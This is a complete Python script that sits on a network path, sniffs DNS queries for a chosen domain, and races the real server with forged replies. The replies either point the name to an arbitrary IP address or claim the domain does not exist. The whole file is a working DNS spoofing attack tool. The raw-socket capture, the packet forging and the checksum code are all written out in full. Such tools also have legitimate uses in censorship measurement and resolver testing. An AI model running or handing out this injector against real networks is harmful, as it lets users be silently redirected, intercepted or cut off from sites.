#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
"""Stands beside the path and answers DNS questions before the server can.

    injector.py DEVICE TTL NAME ADDRESS|nxdomain

Reads copies of what passes the device; the question itself goes on to its server.
"""

import socket
import struct
import sys

PACKET_OUTGOING, NXDOMAIN = 4, 3


def checksum(data):
    total = sum(struct.unpack(f">{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def forge(packet, start, ttl, said):
    """The IP packet of an answer to the question in this one."""
    query = packet[start + 8:]
    end = query.index(0, 12) + 5
    denied = said == "nxdomain"
    is_a = query[end - 4:end - 2] == b"\0\1"
    record = b"" if denied or not is_a else struct.pack(
        ">HHHIH4s", 0xC00C, 1, 1, 60, 4, socket.inet_aton(said))
    answer = query[:2] + struct.pack(">5H", 0x8180 | (NXDOMAIN if denied else 0), 1,
                                     1 if record else 0, 0, 0) + query[12:end] + record
    udp = struct.pack(">2s2sHH", packet[start + 2:start + 4], packet[start:start + 2],
                      8 + len(answer), 0)
    ip = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 28 + len(answer), 0, 0, ttl, socket.IPPROTO_UDP, 0,
                     packet[16:20], packet[12:16])
    return ip[:10] + struct.pack(">H", checksum(ip)) + ip[12:] + udp + answer


def main(device, ttl, name, said):
    wanted = b"".join(bytes((len(part),)) + part.encode() for part in name.split(".")) + b"\0"
    tap = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x0800))
    tap.bind((device, 0x0800))
    out = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    print("ready", flush=True)
    while True:
        packet, where = tap.recvfrom(65535)
        start = (packet[0] & 15) * 4
        if (where[2] != PACKET_OUTGOING and packet[9] == socket.IPPROTO_UDP
                and packet[start + 2:start + 4] == b"\0\x35" and wanted in packet.lower()):
            out.sendto(forge(packet, start, int(ttl), said), (socket.inet_ntoa(packet[12:16]), 0))


if __name__ == "__main__":
    main(*sys.argv[1:])
